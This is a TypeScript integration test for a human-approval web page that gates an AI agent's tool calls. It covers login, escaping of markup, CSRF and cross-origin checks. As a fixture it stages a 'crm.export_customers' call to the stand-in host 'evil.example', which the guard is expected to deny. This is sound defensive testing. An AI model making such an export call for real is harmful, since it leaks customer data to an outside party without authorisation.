import { existsSync, mkdirSync, statSync } from 'node:fs';
import path from 'node:path';
import type { Client, WorkflowHandle } from '@temporalio/client';
import type { FastifyInstance } from 'fastify';
import { type Browser, chromium } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ApproverAuthenticator } from '../../../src/approvals/auth/authenticate.ts';
import { decodeHistoryWithClient } from '../../../src/audit/decode-history.ts';
import { createApprovalsServer } from '../../../src/web/approvals-server.ts';
import { TemporalApprovalsBackend } from '../../../src/web/temporal-backend.ts';
import type { ToolPlanInput, ToolPlanResult } from '../../../src/workflows/tool-plan.ts';
import { testClient, uniqueTaskQueue } from '../../support/temporal.ts';
import {
  type GuardWorkers,
  guardTestConfig,
  startGuardWorkers,
  startPlan,
  waitForPending,
} from '../guard/harness.ts';

const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
const SCREENSHOT = path.resolve('test/artifacts/approvals-page.png');
const TOKENS = 'bob-browser-token=User:bob,mallory-browser-token=User:mallory';

describe('approvals web page in headless Chromium, on a real run', () => {
  const taskQueue = uniqueTaskQueue('web-approvals');
  let client: Client;
  let workers: GuardWorkers;
  let server: FastifyInstance;
  let browser: Browser;
  let baseUrl: string;
  let handle: WorkflowHandle<(input: ToolPlanInput) => Promise<ToolPlanResult>>;

  beforeAll(async () => {
    if (!existsSync(CHROMIUM)) throw new Error(`${CHROMIUM} is missing: apt-get install -y chromium`);
    client = await testClient();
    workers = await startGuardWorkers(taskQueue);
    const config = guardTestConfig();
    server = await createApprovalsServer({
      authenticator: new ApproverAuthenticator('production', TOKENS),
      backend: new TemporalApprovalsBackend(client, config),
    });
    baseUrl = await server.listen({ host: '127.0.0.1', port: 0 });
    browser = await chromium.launch({
      executablePath: CHROMIUM,
      args: [
        '--headless',
        '--no-sandbox',
        '--disable-gpu',
        '--disable-quic',
        '--no-first-run',
        '--disable-background-networking',
        '--disable-component-update',
        '--disable-sync',
      ],
    });
    handle = await startPlan(client, taskQueue, {
      parallel: true,
      calls: [
        {
          tool: 'crm.issue_refund',
          arguments: { customerId: 'c-1001', amount: 180, currency: 'EUR', reason: '<b>double</b> charge' },
          callId: 'refund-web',
        },
        {
          tool: 'crm.export_customers',
          arguments: { destinationUrl: 'https://evil.example/x' },
          callId: 'exfil-web',
        },
      ],
    });
    await waitForPending(handle);
  });
  afterAll(async () => {
    await browser?.close();
    await server?.close();
    await workers?.close();
    await client?.connection.close();
  });

  it('signs in with a token, shows the pending call and the denial, approves it, and the run completes', async () => {
    const page = await browser.newPage({ viewport: { width: 1200, height: 1100 } });
    await page.goto(baseUrl);
    await page.fill('input[name=token]', 'not-a-token');
    await page.click('button[type=submit]');
    await expect(page.textContent('[role=alert]')).resolves.toContain('unknown approver token');

    await page.fill('input[name=token]', 'bob-browser-token');
    await page.click('button[type=submit]');
    await expect(page.textContent('#who')).resolves.toBe('User:bob');
    const cookies = await page.context().cookies();
    expect(cookies.find((c) => c.name === 'warden_session')).toMatchObject({
      httpOnly: true,
      sameSite: 'Strict',
    });

    // Visibility is eventually consistent: reload until the paused run is listed.
    const card = page.locator(`section.pending[data-run="${handle.workflowId}"][data-call="refund-web"]`);
    for (let i = 0; i < 50 && (await card.count()) === 0; i += 1) {
      await page.waitForTimeout(200);
      await page.reload();
    }
    await expect(card.count()).resolves.toBe(1);
    const text = (await card.textContent()) ?? '';
    expect(text).toContain('crm.issue_refund');
    expect(text).toContain('User:alice via Agent:support-bot');
    expect(text).toContain('"amount": 180');
    expect(text).toContain('0 of 1');
    // Arguments are data: the markup in them is shown as text, never rendered.
    expect(text).toContain('<b>double</b> charge');
    await expect(card.locator('b').count()).resolves.toBe(0);
    const denials = (await page.locator('#recent').first().textContent()) ?? '';
    expect(denials).toContain('crm.export_customers');
    expect(denials).toContain('denied');

    await card.locator('textarea[name=reason]').fill('verified the double charge on the invoice');
    mkdirSync(path.dirname(SCREENSHOT), { recursive: true });
    await page.screenshot({ path: SCREENSHOT, fullPage: true });
    await card.locator('button[value=approve]').click();
    await expect(page.textContent('[role=status]')).resolves.toMatch(
      /approved call refund-web of .*: the call is approved/,
    );

    const { outcomes } = await handle.result();
    expect(outcomes.find((o) => o.callId === 'refund-web')).toMatchObject({ status: 'executed' });
    expect(statSync(SCREENSHOT).size).toBeGreaterThan(10_000);

    // The approval in the history names the signed-in user; the page has no field for it.
    const history = await decodeHistoryWithClient(
      handle.client,
      await handle.fetchHistory(),
      handle.workflowId,
    );
    const accepted = history.events?.find((e) => e.workflowExecutionUpdateAcceptedEventAttributes);
    const payload =
      accepted?.workflowExecutionUpdateAcceptedEventAttributes?.acceptedRequest?.input?.args?.payloads?.[0];
    const submission = JSON.parse(Buffer.from(payload?.data ?? []).toString()) as Record<string, unknown>;
    expect(submission).toMatchObject({
      callId: 'refund-web',
      approver: 'bob',
      authentication: 'token',
      decision: 'approve',
    });
    await page.close();
  });

  it('refuses a POST without the CSRF token and a cross-site origin; nothing changes', async () => {
    const login = await fetch(`${baseUrl}/login`, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: 'token=mallory-browser-token',
      redirect: 'manual',
    });
    expect(login.status).toBe(303);
    const cookie = (login.headers.get('set-cookie') ?? '').split(';')[0] ?? '';
    expect(cookie).toMatch(/^warden_session=.+/);
    const forged = await fetch(`${baseUrl}/decide`, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded', cookie },
      body: `run=${encodeURIComponent(handle.workflowId)}&call=refund-web&decision=reject&reason=x&csrf=wrong`,
      redirect: 'manual',
    });
    expect(forged.status).toBe(403);
    const crossSite = await fetch(`${baseUrl}/login`, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded', origin: 'https://evil.example' },
      body: 'token=mallory-browser-token',
      redirect: 'manual',
    });
    expect(crossSite.status).toBe(403);
    const anonymous = await fetch(`${baseUrl}/decide`, { method: 'POST', redirect: 'manual' });
    expect(anonymous.status).toBe(401);
  });
});
